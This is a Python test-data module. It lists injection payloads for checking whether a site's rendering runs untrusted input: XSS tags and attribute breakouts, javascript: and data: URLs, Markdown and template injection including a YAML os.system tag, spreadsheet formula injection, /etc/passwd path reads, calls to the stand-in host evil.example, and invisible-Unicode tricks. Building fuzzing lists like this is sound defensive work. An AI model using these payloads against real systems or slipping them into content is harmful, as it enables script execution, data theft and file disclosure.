"""Texts that try to be more than text: markup, attributes, addresses, templates, front matter, data in scripts, formulas.

Each that can run code calls `pwned()`, so that a browser shows whether it ran.
"""

_ELEMENTS = (
    "<script>pwned()</script>", "<ScRiPt>pwned()</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script/x>pwned()</script >",
    "<img src=x onerror=pwned()>", "<IMG SRC=x OnErRoR=pwned()>", '<img src="x" onerror="pwned()">', "<img src=x onerror='pwned()'>", "<img/src=x/onerror=pwned()>",
    "<svg onload=pwned()>", "<svg/onload=pwned()>", "<svg><script>pwned()</script></svg>", "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:pwned()><text y=9>x</text></a>", "<math><mtext><img src=x onerror=pwned()></mtext></math>",
    "<body onload=pwned()>", "<iframe src=javascript:pwned()>", '<iframe srcdoc="<script>parent.pwned()</script>">', "<object data=javascript:pwned()>",
    "<embed src=javascript:pwned()>", "<video src=x onerror=pwned()>", "<video><source onerror=pwned()>", "<audio src=x onerror=pwned()>",
    "<details open ontoggle=pwned()>x</details>", "<input autofocus onfocus=pwned()>", "<select autofocus onfocus=pwned()>", "<textarea autofocus onfocus=pwned()>",
    "<marquee onstart=pwned()>x</marquee>", "<p onmouseover=pwned()>x</p>", "<a href=javascript:pwned()>x</a>", "<a href='java&#9;script:pwned()'>x</a>",
    "<form action=javascript:pwned()><button>x</button></form>", "<button formaction=javascript:pwned()>x</button>", "<isindex action=javascript:pwned() type=image>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=//evil.example/>", "<style>*{display:none}</style>", "<style>@import '//evil.example/x.css';</style>",
    "<base href=//evil.example/>", '<meta http-equiv="refresh" content="0;url=//evil.example/">', "<template><script>pwned()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>", "<title><img src=x onerror=pwned()></title>", "<plaintext>", "<xmp>", "<listing>",
    "<!--", "<!-- x --><img src=x onerror=pwned()>", "<!--><img src=x onerror=pwned()>-->", "--><img src=x onerror=pwned()>", "<![CDATA[<img src=x onerror=pwned()>]]>", "]]><img src=x onerror=pwned()>",
    "<?php echo 1 ?>", "<%= 1 %>", "<", "<<<<", ">", "</", "</div></div></div></article></main>", "</p><p>", "</a></li></ul>", "</article><article data-entry=x>",
    "</textarea><img src=x onerror=pwned()>", "</style><img src=x onerror=pwned()>", "</title><img src=x onerror=pwned()>", "</h1><script>pwned()</script>",
    "<x onclick=pwned() tabindex=1 autofocus onfocus=pwned()>", "<table><td>", "<frameset onload=pwned()>", "<keygen autofocus onfocus=pwned()>",
    "<dialog open>x</dialog>", "<slot name=x>", "<search-box onx=pwned()>", "<span data-copy data-share data-entry=x>x</span>",
)
_ATTRIBUTES = (
    '"', "'", "`", '">', "'>", '"><script>pwned()</script>', "'><img src=x onerror=pwned()>", '" onmouseover="pwned()', "' onmouseover='pwned()", '" autofocus onfocus="pwned()" x="',
    "` onmouseover=`pwned()", '" style="display:none', '0;url=//evil.example/" http-equiv="refresh', '" content="x" http-equiv="Content-Security-Policy', '" rel="stylesheet" href="//evil.example/x.css',
    "x onerror=pwned() ", "\\\" onload=\\\"pwned()", '" id="content', '" data-entry="x" data-copy="',
)
_ADDRESSES = (
    "javascript:pwned()", "JaVaScRiPt:pwned()", " javascript:pwned()", "javascript&colon;pwned()", "data:text/html,<script>pwned()</script>", "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "vbscript:msgbox(1)", "//evil.example/", "https://evil.example/\"onclick=\"pwned()", "https://user:pass@evil.example/", "../../../../etc/passwd", "?q=<script>pwned()</script>", "#\"><script>pwned()</script>", "%3Cscript%3Epwned()%3C/script%3E", "blob:x", "file:///etc/passwd",
)
_MARKDOWN = (
    "[x](javascript:pwned())", "![x](x\"onerror=\"pwned())", "<javascript:pwned()>", "[x]: javascript:pwned()", "[x][x]", "![x][x]", "**x** __x__ *x* _x_", "`<script>pwned()</script>`", "```", "~~~", "# x", "## x { #content }",
    "> x", "1. x", "* x", "+ x", "---", "***", "===", "| a | b |", "|---|---|", "x { .hidden }", "x {: onclick=pwned() }", "{: onclick=\"pwned()\" id=content }", "{ onclick=pwned() }", "{#content}", "[TOC]", "<!-- material/tags -->", "*[x]: y", "[^1]", "[^1]: x",
    "!!! note", "??? x", ":::", "==x==", "~~x~~", "^^x^^", ":smile:", "\\<script>pwned()\\</script>", "&lt;script&gt;pwned()&lt;/script&gt;", "&#60;script&#62;pwned()&#60;/script&#62;", "&#x3c;img src=x onerror=pwned()&#x3e;", "&", "&amp", "&amp;amp;", "--8<-- \"/etc/passwd\"", "$x$ \\(x\\)", "wzxhzdk:0", "klzzwxh:0000",
)
_TEMPLATES = (
    "{{ 7*7 }}", "{{ config }}", "{% raw %}", "{% endraw %}", "{# x", "#}", "{{ ''.__class__.__mro__ }}", "{% include '/etc/passwd' %}", "{% for x in range(9**9) %}x", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{0.__class__}", "%s%s%n", "%(x)s", "$HOME `id` $(id)", "{{constructor.constructor('pwned()')()}}", "__import__('os')", "\\1\\g<0>",
)
_FRONT_MATTER = (
    "--- title: x", "...", "title: x", "template: main.html", "hide: [toc]", "!!python/object/apply:os.system [id]", "&a *a", "<<: *a", "? x : y", "\"]}}", "'}] #", "\\u003cscript\\u003epwned()\\u003c/script\\u003e", "\\x3cscript\\x3e", "\\", "\\\\", "\\n---\\n",
)
_DATA_IN_SCRIPTS = (
    "</script><script>pwned()</script>", "</ScRiPt ><img src=x onerror=pwned()>", "<!--<script>", "\"};pwned();//", "\"-pwned()-\"", "';pwned();//", "\\\";pwned();//", "\"}]}</script><svg onload=pwned()>", "*/pwned()/*", "`${pwned()}`", "__proto__", "constructor", "toString", "null", "undefined", "NaN", "[object Object]",
)
_FORMULAS = ("=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"https://evil.example/\",\"x\")", "=IMPORTXML(\"https://evil.example/\",\"/\")", "\"=1+1", "';=1+1", "x,=1+1", "x;=1+1")
_BLANKS = ("〔<b>x</b>〕", "〔\" x=\"〕", "〔'><img src=x〕", "〔&amp;〕", "〔〕", "〔〔x〕〕", "〔x")
_INVISIBLE = (
    "\u202e<script>pwned()</script>", "x\u202etxt.exe", "\u2066x\u2069", "<\u200bscript>pwned()</script>", "java\u200bscript:pwned()", "\ufeffx", "\u00adx", "\u2028pwned()", "\u2029pwned()", "x\u3164", "\u0338<", "＜script＞pwned()＜/script＞", "﹤script﹥pwned()", "‹script›", "\U000e0001x", "e\u0301\u0301\u0301\u0301\u0301\u0301", "ﷺ", "👨‍👩‍👧‍👦", "𠮷", "\u0085x", "\u00a0x",
)

PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys((
    *_ELEMENTS, *_ATTRIBUTES, *_ADDRESSES, *_MARKDOWN, *_TEMPLATES, *_FRONT_MATTER, *_DATA_IN_SCRIPTS, *_FORMULAS, *_BLANKS, *_INVISIBLE)))
"""Every payload once."""
